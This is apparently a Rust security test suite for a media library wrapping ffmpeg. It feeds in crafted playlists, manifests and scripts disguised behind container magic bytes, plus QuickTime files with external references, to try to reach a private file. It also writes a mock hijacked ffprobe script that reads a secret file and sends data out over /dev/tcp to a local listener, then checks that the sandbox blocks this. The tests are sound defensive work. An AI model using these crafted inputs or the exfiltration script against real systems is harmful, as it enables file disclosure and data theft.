//! Files that mean no good: lists, manifests and scripts that lead to other files, references inside containers,
//! and a reader that is taken over.

use crate::{ffmpeg, tools};
use media::{Error, Tools, decode_song, probe, viewing_copy};
use std::path::{Path, PathBuf};

/// A film that nobody brought in: 48 × 32, which nothing else here is.
fn private(folder: &Path) -> PathBuf {
    let path = folder.join("private.mp4");
    ffmpeg(
        folder,
        "-f lavfi -i testsrc=s=48x32:r=25:d=1 -f lavfi -i sine=d=1 -c:v mpeg4 -c:a aac private.mp4",
    );
    assert!(path.is_file());
    path
}

/// Lists, manifests and scripts that all lead to `film`, each with the name it goes by.
fn leading_to(film: &str) -> Vec<(&'static str, Vec<u8>)> {
    let segments = format!(
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{film}\n#EXT-X-ENDLIST\n"
    );
    let live = segments.replace("#EXT-X-ENDLIST\n", "");
    let master = format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{film}\n");
    let concat = format!("ffconcat version 1.0\nfile '{film}'\n");
    let plain = format!("file '{film}'\n");
    let manifest = format!(
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\" profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>{film}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    );
    let imf = format!(
        "<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><Id>{film}</Id></CompositionPlaylist>"
    );
    let smil = format!("<smil><body><video src=\"{film}\"/></body></smil>");
    let script = format!("import(\"{film}\")\n");
    let sdp = format!(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{film}\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    );
    let rtsp = format!("[Reference]\nRef1={film}\n");
    let pls = format!("[playlist]\nFile1={film}\nNumberOfEntries=1\nVersion=2\n");
    let before = |mark: &[u8], text: &str| [mark, text.as_bytes()].concat();
    let id3 = b"ID3\x04\0\0\0\0\0\0";
    vec![
        ("list.m3u8", segments.clone().into()),
        ("live.m3u8", live.clone().into()),
        ("master.m3u8", master.clone().into()),
        ("list.mov", segments.clone().into()),
        ("list.mp4", master.clone().into()),
        ("control.mov", before(b"\x01", &segments)),
        ("mark.mov", before(b"\xef\xbb\xbf", &segments)),
        ("zeros.mov", before(&[0; 8], &segments)),
        ("id3.mp3", before(id3, &segments)),
        ("id3-live.mp3", before(id3, &live)),
        ("id3-master.mp3", before(id3, &master)),
        ("id3-concat.mp3", before(id3, &concat)),
        ("riff.wav", before(b"RIFF\x24\0\0\0WAVE", &segments)),
        ("ogg.ogg", before(b"OggS\0\x02", &segments)),
        ("flac.flac", before(b"fLaC", &segments)),
        ("ebml.mkv", before(b"\x1a\x45\xdf\xa3", &segments)),
        ("ftyp.mp4", before(b"\0\0\0\x10ftypisom\0\0\0\0", &segments)),
        ("join.ffconcat", concat.clone().into()),
        ("join.mov", concat.into()),
        ("plain.txt", plain.into()),
        ("manifest.mpd", manifest.clone().into()),
        ("manifest.mp4", manifest.clone().into()),
        ("id3-manifest.mp3", before(id3, &manifest)),
        ("package.xml", imf.into()),
        ("player.smil", smil.into()),
        ("script.avs", script.clone().into()),
        ("script.vpy", script.into()),
        ("camera.sdp", sdp.into()),
        ("old.asx", rtsp.into()),
        ("list.pls", pls.into()),
    ]
}

#[test]
fn nothing_leads_to_another_file() {
    let Some(tools) = tools("lists and manifests") else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let film = private(folder.path());
    let takes = tempfile::tempdir().unwrap();
    let beside = folder.path().join("takes");
    std::fs::create_dir(&beside).unwrap();
    let (absolute, url) = (
        film.display().to_string(),
        format!("file:{}", film.display()),
    );
    let mut tried = 0;
    for (at, leads) in [
        (takes.path(), absolute.as_str()),
        (takes.path(), &url),
        (&beside, "../private.mp4"),
    ] {
        for (name, bytes) in leading_to(leads) {
            let path = at.join(name);
            std::fs::write(&path, bytes).unwrap();
            tried += 1;
            let told = probe(&path, Some(&tools));
            if let Ok(told) = &told {
                let size = told
                    .picture
                    .as_ref()
                    .map(|picture| (picture.width, picture.height));
                assert_ne!(size, Some((48, 32)), "{name} leads to {leads}");
                let out = at.join("view.mp4");
                assert!(
                    viewing_copy(&path, told, &tools, &out, &|_| true).is_err(),
                    "{name}"
                );
            }
            assert!(
                decode_song(&path, Some(&tools), &|| true).is_err(),
                "{name} leads to {leads}"
            );
        }
    }
    assert_eq!(tried, 90);
}

/// A QuickTime film whose data are said to lie in another file (`dref` with an alias or an address).
#[test]
fn films_that_refer_to_another_file_show_nothing_of_it() {
    let Some(tools) = tools("references in a film") else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    private(folder.path());
    ffmpeg(
        folder.path(),
        "-f lavfi -i color=black:s=64x64:r=25:d=1 -c:v mpeg4 -an own.mov",
    );
    let bytes = std::fs::read(folder.path().join("own.mov")).unwrap();
    let at = bytes
        .windows(4)
        .position(|word| word == b"dref")
        .expect("a reference");
    // `url ` with the flag that says "in this file": cleared, it lies elsewhere.
    let entry = at + 16;
    for (kind, name) in [
        (b"url ", "url.mov"),
        (b"alis", "alis.mov"),
        (b"rsrc", "rsrc.mov"),
    ] {
        let mut changed = bytes.clone();
        changed[entry..entry + 4].copy_from_slice(kind);
        changed[entry + 7] = 0;
        let path = folder.path().join(name);
        std::fs::write(&path, changed).unwrap();
        if let Ok(told) = probe(&path, Some(&tools)) {
            let picture = told.picture.expect("its own picture");
            assert_eq!((picture.width, picture.height), (64, 64), "{name}");
        }
    }
}

#[test]
fn a_path_is_never_a_pattern() {
    let Some(tools) = tools("patterns in names") else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    ffmpeg(
        folder.path(),
        "-f lavfi -i color=red:s=64x48 -frames:v 1 right.jpg",
    );
    ffmpeg(
        folder.path(),
        "-f lavfi -i color=red:s=32x32 -frames:v 1 wrong.jpg",
    );
    for name in [
        "a%d.jpg",
        "a%03d.jpg",
        "%d.jpg",
        "a*.jpg",
        "a[1].jpg",
        "a:b.jpg",
        "-a.jpg",
        "%%.jpg",
    ] {
        let path = folder.path().join(name);
        std::fs::copy(folder.path().join("right.jpg"), &path).unwrap();
        for number in 0..3 {
            let wrong = name
                .replace("%03d", &format!("{number:03}"))
                .replace("%d", &number.to_string());
            if wrong != name {
                std::fs::copy(folder.path().join("wrong.jpg"), folder.path().join(wrong)).unwrap();
            }
        }
        let small = media::phone_picture(&path, 640, &tools, &|| true).unwrap();
        let read = image_size(&small);
        assert_eq!(read, (64, 48), "{name}");
    }
}

/// Width and height from a JPEG's frame header (ITU-T T.81, B.2.2).
fn image_size(jpeg: &[u8]) -> (u16, u16) {
    let at = jpeg
        .windows(2)
        .position(|mark| mark == [0xff, 0xc0])
        .expect("a frame");
    let number = |at: usize| u16::from_be_bytes([jpeg[at], jpeg[at + 1]]);
    (number(at + 7), number(at + 5))
}

/// What reads the file is taken over by it: it still reads and writes nothing else, and reaches nobody.
#[cfg(target_os = "linux")]
#[test]
fn a_reader_that_is_taken_over_reads_nothing_else() {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = tempfile::tempdir().unwrap();
    let take = folder.path().join("take.wav");
    media::write_wav(&take, 8000, &[&[0.0; 800]], media::WavFormat::Int16).unwrap();
    let secret = folder.path().join("secret.txt");
    std::fs::write(&secret, "SECRET").unwrap();
    // Programs live in a folder of their own; what lies beside them is theirs to read.
    let programs = tempfile::tempdir().unwrap();
    let taken_over = programs.path().join("ffprobe");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "#!/bin/bash\n[ \"$*\" = -version ] && {{ echo ffmpeg version 7.0 Copyright; exit; }}\n\
         last=\"${{@: -1}}\"; head -c 4 \"${{last#file:}}\" >&2\n\
         cat {secret} >&2 && echo READ >&2\n\
         echo x > {folder}/new && echo WROTE >&2\n\
         echo x > /dev/tcp/127.0.0.1/{port} && echo SENT >&2\n\
         exit 1\n",
        secret = secret.display(),
        folder = folder.path().display(),
    );
    std::fs::write(&taken_over, script).unwrap();
    std::fs::set_permissions(&taken_over, std::fs::Permissions::from_mode(0o755)).unwrap();
    let found = loop {
        match Tools::at(&taken_over, &taken_over) {
            // While another test is starting a child, that child may still hold the script open.
            Err(Error::Io { source, .. })
                if source.kind() == std::io::ErrorKind::ExecutableFileBusy => {}
            found => break found.unwrap(),
        }
    };
    if !found.held_to_its_files() {
        eprintln!("skipped: this kernel holds nobody to their files");
        return;
    }
    let said = probe(&take, Some(&found)).unwrap_err().to_string();
    for done in ["SECRET", "READ", "WROTE", "SENT"] {
        assert!(!said.contains(done), "{said}");
    }
    assert!(!folder.path().join("new").exists());
}
